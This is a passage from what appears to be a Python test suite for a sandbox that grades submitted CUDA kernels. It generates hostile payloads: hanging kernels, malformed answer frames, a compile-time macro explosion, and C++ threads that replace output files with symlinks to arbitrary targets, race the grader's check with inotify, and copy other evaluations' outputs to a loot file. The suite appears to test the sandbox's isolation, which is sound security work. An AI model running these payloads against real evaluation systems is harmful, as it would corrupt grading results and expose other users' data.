            session = Session(portal, client, kind="http", results=server.results, task=task, twin=twin,
                              stderr=server.stderr, server_pid=server.proc.pid, secrets=secrets)
            session.port = server.port
            yield session
    finally:
        server.stop()


# ------------------------------------------------------------------------------------------------ more payloads

def hung_kernel() -> str:
    """Says so on stderr, then spins inside the kernel until killed."""
    return kernel('    fprintf(stderr, "JX-HUNG\\n");\n    fflush(stderr);\n    volatile int spin = 1;\n    while (spin) {}',
                  where="kernel")


def frame_then_hang() -> str:
    """Announces a 256-byte answer on the worker's pipe, sends 3 bytes of it, and never finishes."""
    return kernel('    jx_frame((const unsigned char*)"abc", 3, 256);\n    for (;;) sleep(1000);')


def nested_answer(depth: int = 200_000) -> str:
    """A well-framed answer (8-byte little-endian length, then the body) of ``depth`` nested JSON arrays,
    then the worker hangs."""
    return kernel(f"""
    static char deep[{depth}];
    memset(deep, '[', sizeof deep);
    int fd = jx_answer_fd();
    unsigned long long n = sizeof deep;
    write(fd, &n, 8);
    write(fd, deep, sizeof deep);
    for (;;) sleep(1000);
""")


def baseline(nonce: str | None = None) -> str:
    return f"// {nonce or _random.token_hex(6)}\n" + JAILBOX_BASELINE


def macro_explosion(levels: int = 14, cpu_only: bool = False) -> str:
    """4**levels initialisers from a few lines of macros: more memory than the compile limit allows."""
    lines = ["#define JX_A0 1,1,1,1"] + [f"#define JX_A{i} JX_A{i - 1},JX_A{i - 1},JX_A{i - 1},JX_A{i - 1}"
                                      for i in range(1, levels + 1)]
    boom = f"__device__ int jx_boom[] = {{ JX_A{levels} }};" if not cpu_only else \
        f"#ifdef CUDAOPT_CPU_H\nstatic int jx_boom[] = {{ JX_A{levels} }};\n#endif"
    return baseline() + "\n".join(lines) + "\n" + boom + "\n"


SCAN_OUTPUTS = r"""
/* every case folder of every evaluation: /dev/shm/cudaopt-inputs-X/scratch/EVALUATION/CASE (outputs in out/) */
template <class F> static void jx_each_case_dir(F f) {
    void* shm = opendir("/dev/shm");
    while (jx_dirent* a = shm ? readdir(shm) : nullptr) {
        if (strncmp(a->name, "cudaopt-inputs-", 15)) continue;
        char s[256];
        snprintf(s, sizeof s, "/dev/shm/%s/scratch", a->name);
        void* d1 = opendir(s);
        while (jx_dirent* b = d1 ? readdir(d1) : nullptr) {
            if (b->name[0] == '.') continue;
            char s2[512];
            snprintf(s2, sizeof s2, "%s/%s", s, b->name);
            void* d2 = opendir(s2);
            while (jx_dirent* c = d2 ? readdir(d2) : nullptr) {
                if (c->name[0] == '.') continue;
                char s3[800];
                snprintf(s3, sizeof s3, "%s/%s", s2, c->name);
                f(s3);
            }
            if (d2) closedir(d2);
        }
        if (d1) closedir(d1);
    }
    if (shm) closedir(shm);
}
"""


def swap_outputs_for_links(target: Path) -> tuple[str, str]:
    """(extra, payload): a thread that replaces each output file, as soon as the worker has written it, by
    a symbolic link to ``target``, and leaves links to it and to / all over the scratch folder."""
    extra = SCAN_OUTPUTS + f"""
static void* jx_swapper(void*) {{
    for (int k = 0; k < 20000; ++k) {{  /* about 2 s */
        jx_each_case_dir([](const char* dir) {{
            char f[900], l[910], extra[910];
            snprintf(f, sizeof f, "%s/out/out.npy", dir);
            snprintf(l, sizeof l, "%s/out/.jx-link", dir);
            snprintf(extra, sizeof extra, "%s/out/secret.npy", dir);
            symlink({c_str(str(target))}, extra);
            char dest[16];
            int fd = open(f, 0);
            if (fd >= 0 && readlink(f, dest, sizeof dest) < 0) {{  /* a regular file: swap it */
                symlink({c_str(str(target))}, l);
                rename(l, f);
            }}
            if (fd >= 0) close(fd);
        }});
        usleep(100);
    }}
    return nullptr;
}}
"""
    payload = ("    unsigned long th;\n    JX_PRINTF(\"thread %d\\n\", pthread_create(&th, nullptr, jx_swapper, nullptr));\n"
               f"    symlink({c_str(str(target))}, \"/tmp/jx-link\");\n    symlink(\"/\", \"/tmp/jx-root\");\n"
               "    jx_file(\"/tmp/jx-link\");\n    jx_ls(\"/tmp/jx-root/\");")
    return extra, payload


TWIN_KERNEL = r"""
extern "C" __global__ void jailtwin(const float* in, float* a, float* b, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n) return;
#ifdef CUDAOPT_CPU_H
    if (i == 0) jx_arm();
#endif
    a[i] = 2.0f * in[i];
    b[i] = 4.0f * in[i];
}
"""


def twin_toctou(target: Path) -> str:
    """The jailtwin kernel, correct, plus a thread that waits for the server to *keep* the case's outputs
    (its second read of a.npy: the first was the comparison) and then swaps b.npy, already checked, for a
    symbolic link to ``target``: the server's check of b and its move of b are apart by the copy of a."""
    extra = SCAN_OUTPUTS + f"""
static int jx_ifd = -1;
static char jx_dirs[64][900];
static int jx_wds[64], jx_states[64], jx_ndirs;
static void jx_arm() {{  /* in the launch, before the worker writes the outputs: watch each case's out/ */
    jx_each_case_dir([](const char* dir) {{
        for (int k = 0; k < jx_ndirs; ++k) if (!strncmp(jx_dirs[k], dir, strlen(dir))) return;
        if (jx_ndirs >= 64) return;
        snprintf(jx_dirs[jx_ndirs], sizeof jx_dirs[0], "%s/out", dir);
        mkdir(jx_dirs[jx_ndirs], 0755);
        jx_wds[jx_ndirs] = inotify_add_watch(jx_ifd, jx_dirs[jx_ndirs], 0x20 | 0x10);  /* IN_OPEN | IN_CLOSE_NOWRITE */
        jx_states[jx_ndirs] = 0;
        ++jx_ndirs;
    }});
}}
static void* jx_watch(void*) {{
    char buf[8192];
    for (;;) {{
        long n = read(jx_ifd, buf, sizeof buf);
        for (long off = 0; n > 0 && off < n;) {{
            struct ev {{ int wd; unsigned mask, cookie, len; }};
            const ev* e = (const ev*)(buf + off);
            const char* name = buf + off + 16;
            off += 16 + e->len;
            if (!e->len || strcmp(name, "a.npy")) continue;
            for (int k = 0; k < jx_ndirs; ++k) {{
                if (jx_wds[k] != e->wd) continue;
                if (e->mask & 0x10) {{ if (jx_states[k] == 0) jx_states[k] = 1; }}
                else if ((e->mask & 0x20) && jx_states[k] == 1) {{
                    char l[920], f[920];
                    snprintf(l, sizeof l, "%s/.jx", jx_dirs[k]);
                    snprintf(f, sizeof f, "%s/b.npy", jx_dirs[k]);
                    symlink({c_str(str(target))}, l);
                    rename(l, f);
                    jx_states[k] = 2;
                }}
            }}
        }}
    }}
    return nullptr;
}}
static int jx_started = []() {{
    jx_ifd = inotify_init1(0);
    unsigned long th;
    pthread_create(&th, nullptr, jx_watch, nullptr);
    return 0;
}}();
"""
    return (f"// twin {_random.token_hex(6)}\n#define JX_CAP 4096\n" + PRELUDE + "#ifdef CUDAOPT_CPU_H\n" + extra
            + "static void jx_payload() {}\n#endif\n" + TWIN_KERNEL)


def loot_thread(seconds: int = 60) -> tuple[str, str]:
    """(extra, payload): a thread that stays in the worker and copies every output file any later
    evaluation writes (another run's too) to /tmp/jx-loot, the jail's own /tmp, which outlives the candidate."""
    extra = SCAN_OUTPUTS + f"""
static char jx_own[800];
static void* jx_looter(void*) {{
    for (int k = 0; k < {seconds} * 500; ++k) {{
        jx_each_case_dir([](const char* dir) {{
            if (jx_own[0] && !strncmp(dir, jx_own, strlen(jx_own))) return;
            char f[900];
            snprintf(f, sizeof f, "%s/out/out.npy", dir);
            int fd = open(f, 0);
            if (fd < 0) return;
            if (!jx_own[0]) {{ snprintf(jx_own, sizeof jx_own, "%s", dir); close(fd); return; }}  /* our own case */
            static char data[1 << 16];
            long n = read(fd, data, sizeof data);
            close(fd);
            int out = open("/tmp/jx-loot", 01 | 0100 | 01000, 0644);
            if (out >= 0 && n > 0) write(out, data, n);
            if (out >= 0) close(out);
        }});
        usleep(2000);
    }}
    return nullptr;
}}
"""
    payload = "    unsigned long th;\n    JX_PRINTF(\"looter %d\\n\", pthread_create(&th, nullptr, jx_looter, nullptr));"
    return extra, payload
